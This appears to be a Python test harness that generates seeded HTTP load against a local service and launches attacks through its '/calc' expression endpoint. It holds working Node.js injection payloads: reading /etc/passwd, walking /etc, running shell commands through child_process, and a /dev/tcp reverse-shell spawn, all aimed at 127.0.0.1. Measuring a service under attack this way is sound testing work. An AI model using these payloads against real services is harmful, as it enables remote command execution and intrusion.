"""The load on the measured service, the same for every version: a seeded mix of requests by a few
clients at a steady rate; and the attacks through the service's hole."""

import http.client
import json
import random
import threading
import time
from urllib.parse import quote

CLIENTS, RATE = 6, 80  # requests a second of all clients together

ATTACKS = {
    "file read": "require('fs').readFileSync('/etc/passwd').length",
    "search": "(function walk(d,n){for(const f of require('fs').readdirSync(d,{withFileTypes:true}))"
              "{if(n-->0&&f.isDirectory())try{walk(d+'/'+f.name,n)}catch(e){}}})('/etc',5)",
    "shell": "require('child_process').execSync('id; uname -a; ls /').length",
    "reverse shell": "require('child_process').spawn('/bin/sh',['-c',"
                     "'exec 5<>/dev/tcp/127.0.0.1/9;id'],{detached:true}).pid",
}


def requests(seed):
    """An endless mix: (method, path, body)."""
    draw = random.Random(seed)
    known = ["none"]
    while True:
        kind = draw.choices(["page", "static", "post", "list", "item", "digest", "packed", "calc",
                             "missing"], [20, 25, 10, 5, 20, 5, 5, 8, 2])[0]
        if kind == "post":
            body = json.dumps({"name": "x" * draw.randint(1, 4000)})
            known = known[-200:] + [(yield "POST", "/items", body) or "none"]
        else:
            yield "GET", {
                "page": "/", "list": "/items", "packed": "/packed", "missing": "/nothing",
                "static": f"/static/{draw.randint(0, 9)}.txt", "item": f"/items/{draw.choice(known)}",
                "digest": f"/digest?word={draw.randint(0, 999)}",
                "calc": f"/calc?e={draw.randint(1, 99)}%2B{draw.randint(1, 99)}"}[kind], None


def client(port, seed, end, counts):
    """One client until `end`; a new connection after every 40 requests."""
    mix, stored, connection, count = requests(seed), None, None, 0
    pause = random.Random(seed)
    method, path, body = next(mix)
    while time.monotonic() < end:
        if count % 40 == 0:
            if connection:
                connection.close()
            connection = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
        connection.request(method, path, body, {"Content-Type": "application/json"} if body else {})
        answer = connection.getresponse().read()
        stored = json.loads(answer)["id"] if method == "POST" else None
        count += 1
        method, path, body = mix.send(stored)
        time.sleep(pause.expovariate(RATE / CLIENTS))
    connection.close()
    counts.append(count)


def run(port, seed, seconds):
    """The load for so long; how many requests were answered."""
    counts, end = [], time.monotonic() + seconds
    clients = [threading.Thread(target=client, args=(port, 1000 * seed + i, end, counts))
               for i in range(CLIENTS)]
    for each in clients:
        each.start()
    for each in clients:
        each.join()
    if len(counts) != CLIENTS:
        raise RuntimeError("the service did not bear the load")
    return sum(counts)


def attack(port, name):
    """One attack; the time when it began, in seconds since 1970."""
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
    began = time.time()
    connection.request("GET", f"/calc?e={quote(ATTACKS[name])}")
    connection.getresponse().read()
    connection.close()
    return began
